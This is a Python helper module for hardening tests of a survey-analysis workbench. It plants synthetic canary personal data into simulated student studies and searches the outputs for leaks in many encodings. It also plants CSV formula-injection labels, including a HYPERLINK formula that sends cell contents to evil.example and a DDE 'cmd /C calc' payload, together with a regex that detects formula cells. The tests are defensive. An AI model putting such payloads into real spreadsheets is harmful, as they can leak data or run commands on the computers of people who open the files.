"""Planted studies for the hardening tests (canaries, small cells, formula injection).

Not a test module: ``tests/test_canary.py``, ``test_small_cells.py`` and
``test_formula_injection.py`` import it. Each builder starts from a small
``workbench simulate --preset county`` study (6 schools, ~16 students each; the
endline is a GBK platform export with Chinese headers) and rewrites its raw files.

It also holds :func:`find_leaks`, an output search written for the tests only,
independent of :mod:`survey.scanner`: every file is turned into byte blobs (the
raw bytes; ZIP members; PNG text chunks decompressed; base64 images inside
JSON/HTML decoded; parquet values, column names and metadata; SPSS values and
labels) and each secret is looked for in UTF-8, GB18030 and UTF-16, as JSON
``\\uXXXX`` escapes (either case) and as HTML numeric entities.
"""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import re
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pandas as pd

# uncommon characters (all in GBK): canary names cannot occur by chance in labels
_SURNAMES = "禚郗亓鄢"
_GIVEN_A = "翀珝昶翯曌犇淼燚"
_GIVEN_B = "鹂鹬鸮鹮鹟鹪鹩鹫"
_G_SURNAMES = "闫邴眭逯"
_G_GIVEN = "甍甓瓴瓿甑甗瓠瓞"


def simulate_small_county(folder: Path, *, seed: int = 11, schools: int = 6,
                          per_school: int = 16) -> Path:
    """A small county-preset study (GBK platform endline) in ``folder``."""
    from workbench.study_writer import plan_from_preset, write_simulated_study

    plan = plan_from_preset("county", schools=schools, blocks=2, students_per_school=per_school,
                            classes_per_school=2, truth_draws=2000, seed=seed,
                            delivery="none")
    write_simulated_study(folder, plan)
    return folder


def read_raw(folder: Path) -> tuple[pd.DataFrame, pd.DataFrame]:
    """The two raw files as text frames (baseline UTF-8, endline GBK)."""
    base = pd.read_csv(folder / "data" / "baseline.csv", dtype=str, keep_default_na=False)
    end = pd.read_csv(folder / "data" / "endline.csv", dtype=str, keep_default_na=False,
                      encoding="gb18030")
    return base, end


def write_raw(folder: Path, base: pd.DataFrame, end: pd.DataFrame) -> None:
    # QUOTE_ALL: a text with a bare CR must be quoted (pandas does not quote it otherwise)
    (folder / "data" / "baseline.csv").write_bytes(
        base.to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_ALL).encode("utf-8"))
    (folder / "data" / "endline.csv").write_bytes(
        end.to_csv(index=False, lineterminator="\r\n").encode("gbk"))


def edit_study_yaml(folder: Path, edit) -> None:
    import yaml

    path = folder / "study.yaml"
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    edit(doc)
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")


# --------------------------------------------------------------------------- canaries


def canary_name(i: int) -> str:
    return _SURNAMES[i // 64 % 4] + _GIVEN_A[i // 8 % 8] + _GIVEN_B[i % 8]


def plant_canaries(folder: Path) -> dict:
    """Replace ids and personal data by canaries; add an undeclared free-text column.

    Returns a dict with ``declared`` (kind -> list of canaries in declared columns),
    ``ids`` (raw ids), ``free_clean`` (free-text canaries of rows that stay clean),
    ``free_quarantined`` (a copy of a declared name typed into the free-text column
    of a duplicated, hence quarantined, row), ``quarantined_id``.
    """
    base, end = read_raw(folder)
    old_ids = list(dict.fromkeys(base["student_id"].tolist() + end["student_id"].tolist()))
    assert len(old_ids) < 256
    new_id = {old: f"ZQX-{70000 + i:05d}-K" for i, old in enumerate(old_ids)}
    name = {old: canary_name(i) for i, old in enumerate(old_ids)}
    base["student_id"] = base["student_id"].map(new_id)
    end["student_id"] = end["student_id"].map(new_id)
    idx = np.arange(len(base))
    old_of = {v: k for k, v in new_id.items()}
    base["name"] = [name[old_of[v]] for v in base["student_id"]]
    base["name_pinyin"] = [f"Jinsique Yingwu{i:03d}" for i in idx]
    base["phone"] = [f"1990417{i:04d}" for i in idx]
    base["address"] = [f"鹦鹉县金丝雀镇{i}号院" for i in idx]
    base["guardian_name"] = [_G_SURNAMES[i // 64 % 4] + _G_GIVEN[i // 8 % 8] + _G_GIVEN[i % 8]
                             for i in idx]
    end["姓名"] = [name[old_of[v]] for v in end["student_id"]]
    # an undeclared free-text answer column (备注 = remarks), unique per row
    base.insert(len(base.columns), "备注", [f"自由文本雀{i}记" for i in idx])
    # a duplicated row (same id twice in the baseline: both copies quarantined) whose
    # free text repeats the child's declared name
    k = 5
    dup = base.iloc[[k]].copy()
    dup["备注"] = "我叫" + dup["name"].iloc[0] + "，请联系我"
    base = pd.concat([base.iloc[: k + 1], dup, base.iloc[k + 1:]], ignore_index=True)
    write_raw(folder, base, end)
    quarantined = {base["备注"].iloc[k]}
    return {
        "declared": {"name": base["name"].tolist() + end["姓名"].tolist(),
                     "name_pinyin": base["name_pinyin"].tolist(),
                     "phone": base["phone"].tolist(), "address": base["address"].tolist(),
                     "guardian_name": base["guardian_name"].tolist()},
        "ids": sorted(set(base["student_id"]) | set(end["student_id"])),
        "free_clean": sorted(set(base["备注"]) - quarantined - {dup["备注"].iloc[0]}),
        "free_quarantined": dup["备注"].iloc[0],
        "free_original_of_quarantined": base["备注"].iloc[k],
        "quarantined_id": dup["student_id"].iloc[0],
    }


# ------------------------------------------------------------------- independent search


def _png_text(data: bytes) -> list[bytes]:
    out, pos = [], 8
    while pos + 8 <= len(data):
        length = int.from_bytes(data[pos:pos + 4], "big")
        ctype = data[pos + 4:pos + 8]
        body = data[pos + 8:pos + 8 + length]
        pos += 12 + length
        if ctype == b"tEXt":
            out.append(body)
        elif ctype == b"zTXt":
            key, _, rest = body.partition(b"\0")
            out.append(key + b"\0" + zlib.decompress(rest[1:]))
        elif ctype == b"iTXt":
            key, _, rest = body.partition(b"\0")
            flag, rest = rest[0], rest[2:]
            _lang, _, rest = rest.partition(b"\0")
            _tkey, _, text = rest.partition(b"\0")
            out.append(key + b"\0" + _tkey + b"\0" + (zlib.decompress(text) if flag else text))
        elif ctype not in (b"IDAT", b"IHDR", b"IEND"):
            out.append(body)
        if ctype == b"IEND":
            out.append(data[pos:])  # anything after IEND
            break
    return out


_B64_RE = re.compile(rb"(?:data:image/[a-z+]+;base64,|\"image/png\":\s*\")([A-Za-z0-9+/=\\n\s]{40,})")


def blobs(path: Path, data: bytes | None = None, depth: int = 0) -> list[bytes]:
    """Every byte blob a reader could recover from one file (see module doc)."""
    data = path.read_bytes() if data is None else data
    out = [data, str(path.name).encode("utf-8")]
    if depth > 3:
        return out
    suffix = path.suffix.lower()
    if data[:8] == b"\x89PNG\r\n\x1a\n":
        out += _png_text(data)
    if data[:2] == b"PK":
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                for info in z.infolist():
                    out += blobs(Path(info.filename), z.read(info), depth + 1)
        except zipfile.BadZipFile:
            pass
    if suffix == ".parquet":
        import pyarrow.parquet as pq

        f = pq.ParquetFile(io.BytesIO(data))
        t = f.read()
        meta = t.schema.metadata or {}
        out += [k + b"=" + v for k, v in meta.items()]
        out.append(json.dumps(t.to_pylist(), ensure_ascii=False, default=str).encode("utf-8"))
        out.append(" ".join(t.column_names).encode("utf-8"))
    if suffix == ".sav":
        import pyreadstat

        df, meta = pyreadstat.read_sav(str(path))
        out.append(df.to_csv(index=False).encode("utf-8"))
        out.append(json.dumps([meta.column_names, meta.column_labels, meta.file_label,
                               meta.notes, meta.variable_value_labels],
                              ensure_ascii=False, default=str).encode("utf-8"))
    for m in _B64_RE.finditer(data):
        raw = re.sub(rb"\\n|\s", b"", m.group(1))
        try:
            img = base64.b64decode(raw + b"=" * (-len(raw) % 4))
        except ValueError:
            continue
        out += blobs(Path("embedded.png"), img, depth + 1)
    return out


def forms(secret: str) -> list[bytes]:
    """The byte forms a secret may take in a file."""
    out = {secret.encode("utf-8"), secret.lower().encode("utf-8")}
    try:
        out.add(secret.encode("gb18030"))
    except UnicodeEncodeError:
        pass
    out.add(secret.encode("utf-16-le"))
    if not secret.isascii():
        esc = "".join(c if c.isascii() else f"\\u{ord(c):04x}" for c in secret)
        out |= {esc.encode(), esc.upper().replace("\\U", "\\u").encode()}
        out.add("".join(c if c.isascii() else f"&#{ord(c)};" for c in secret).encode())
        out.add("".join(c if c.isascii() else f"&#x{ord(c):x};" for c in secret).encode())
        out.add(html.escape(secret).encode("utf-8"))
    return sorted(out)


def output_files(folder: Path) -> list[Path]:
    return sorted(p for p in Path(folder).rglob("*") if p.is_file())


def _trie_regex(words: list[bytes]) -> bytes:
    """One regex for many literals, factorized as a trie (one branch tried per byte)."""
    trie: dict = {}
    for w in words:
        node = trie
        for b in w:
            node = node.setdefault(b, {})
        node[None] = True

    def build(node: dict) -> bytes:
        end = None in node
        alts = [re.escape(bytes([b])) + build(child)
                for b, child in sorted((k, v) for k, v in node.items() if k is not None)]
        if not alts:
            return b""
        body = alts[0] if len(alts) == 1 else b"(?:" + b"|".join(alts) + b")"
        return b"(?:" + body + b")?" if end else body

    return build(trie)


def find_leaks(folder: Path, secrets: dict[str, list[str]]) -> dict[str, list[str]]:
    """``{file relative to folder: [kinds found]}`` for every secret in any form."""
    needles = [(kind, f) for kind, values in secrets.items() for v in values for f in forms(v)]
    kind_of = {}
    for kind, f in needles:
        kind_of.setdefault(f.lower(), set()).add(kind)
    pattern = re.compile(_trie_regex(list(kind_of)))
    hits: dict[str, set[str]] = {}
    for p in output_files(folder):
        for b in blobs(p):
            for m in pattern.finditer(b.lower()):
                hits.setdefault(p.relative_to(folder).as_posix(), set()).update(
                    kind_of[m.group(0)])
    return {k: sorted(v) for k, v in sorted(hits.items())}


# ------------------------------------------------------------- small cells and formulas

#: labels a spreadsheet would run as formulas, planted in the study's text values
FORMULA_ARM = "+mentoring"
FORMULA_WAVE = "@endline"
FORMULA_GENDER = "-female"
FORMULA_CLASS = "=S0101-C03"
FORMULA_FREE_TEXT = ('=HYPERLINK("http://evil.example/?"&A1,"click")',
                     'ok\r=cmd|\' /C calc\'!A0')
TINY_LEVEL = "one_parent"


def plant_small_cells_and_formulas(folder: Path) -> dict:
    """A tiny subgroup level, a tiny class and formula-like labels everywhere.

    * ``guardian_type``: exactly 3 children of the treatment arm are ``one_parent``
      (6 in control), 8 / 7 are ``other_relative``, the rest ``grandparents``;
    * a class of 2 students (``class_id`` = :data:`FORMULA_CLASS`);
    * the treatment arm is labelled :data:`FORMULA_ARM`, the endline wave
      :data:`FORMULA_WAVE`, girls :data:`FORMULA_GENDER`;
    * two duplicated baseline rows (quarantined) carry :data:`FORMULA_FREE_TEXT` in an
      undeclared free-text column, one with a bare carriage return before ``=``.
    """
    base, end = read_raw(folder)
    arm_of = dict(zip(base["student_id"], base["arm"]))
    guardian = {}
    for arm, (one, other) in {"treatment": (3, 8), "control": (6, 7)}.items():
        ids = sorted(i for i, a in arm_of.items() if a == arm)
        for k, i in enumerate(ids):
            guardian[i] = TINY_LEVEL if k < one else "other_relative" if k < one + other \
                else "grandparents"
    first_school = sorted(base["school_id"])[0]
    tiny = sorted(base.loc[base["school_id"] == first_school, "student_id"])[-2:]
    for df in (base, end):
        df["guardian_type"] = df["student_id"].map(guardian)
        df.loc[df["student_id"].isin(tiny), "class_id"] = FORMULA_CLASS
        df["arm"] = df["arm"].replace({"treatment": FORMULA_ARM})
        df["gender"] = df["gender"].replace({"female": FORMULA_GENDER})
    base.insert(len(base.columns), "备注", "")
    dups = base.iloc[[3, 9]].copy()
    dups["备注"] = list(FORMULA_FREE_TEXT)
    base = pd.concat([base, dups], ignore_index=True)
    write_raw(folder, base, end)

    def waves(doc):
        doc["design"]["waves"] = [doc["design"]["waves"][0], FORMULA_WAVE]
        for src in doc["data"]:
            if src["wave"] == "endline":
                src["wave"] = FORMULA_WAVE
        # the study's labels follow the renamed values (they are checked against the design)
        values = (doc.get("labels") or {}).get("values") or {}
        for column, old, new in (("wave", "endline", FORMULA_WAVE), ("arm", "treatment", FORMULA_ARM),
                                 ("gender", "female", FORMULA_GENDER)):
            if old in (values.get(column) or {}):
                values[column][new] = values[column].pop(old)
        if "arms" in doc["design"]:
            doc["design"]["arms"] = [FORMULA_ARM if a == "treatment" else a
                                     for a in doc["design"]["arms"]]

    edit_study_yaml(folder, waves)
    return {"tiny_ids": tiny, "one_parent_treatment": 3}


def csv_records(data: bytes) -> list[list[str]]:
    """Split CSV bytes as a spreadsheet does: quoted fields may hold line breaks, and a
    CR, LF or CRLF outside quotes ends a record (Excel and LibreOffice do this)."""
    text = data.decode("utf-8-sig")
    records, row, field, quoted, i = [], [], [], False, 0
    while i < len(text):
        c = text[i]
        if quoted:
            if c == '"':
                if text[i + 1:i + 2] == '"':
                    field.append('"')
                    i += 1
                else:
                    quoted = False
            else:
                field.append(c)
        elif c == '"' and not field:
            quoted = True
        elif c == ",":
            row.append("".join(field))
            field = []
        elif c in "\r\n":
            row.append("".join(field))
            records.append(row)
            row, field = [], []
            if c == "\r" and text[i + 1:i + 2] == "\n":
                i += 1
        else:
            field.append(c)
        i += 1
    if field or row:
        row.append("".join(field))
        records.append(row)
    return records


_FORMULA_START = re.compile(r"^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]")
_PLAIN_NUMBER = re.compile(r"^\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\s*$")


def formula_cells(values) -> list[str]:
    """Cells a spreadsheet would evaluate (a plain number like ``-3`` is not one)."""
    return [v for v in values if isinstance(v, str) and _FORMULA_START.match(v)
            and not _PLAIN_NUMBER.match(v)]


_RUNS: dict = {}


def small_cells_run(tmp_path_factory):
    """The planted small-cells/formula study and its run (once per test session; the
    two test modules share it). Notebook 05 (power) publishes no respondent counts
    or labels and is left out to save time."""
    if "small_cells" not in _RUNS:
        from workbench.pipeline import run_study

        folder = simulate_small_county(tmp_path_factory.mktemp("small_cells") / "study", seed=12)
        info = plant_small_cells_and_formulas(folder)
        out = folder.parent / "output"
        result = run_study(folder, out=out, jobs=2, progress=False,
                           only=["00_data_quality", "01_reliability", "02_baseline",
                                 "03_effects", "04_claims"])
        _RUNS["small_cells"] = (folder, info, result)
    return _RUNS["small_cells"]
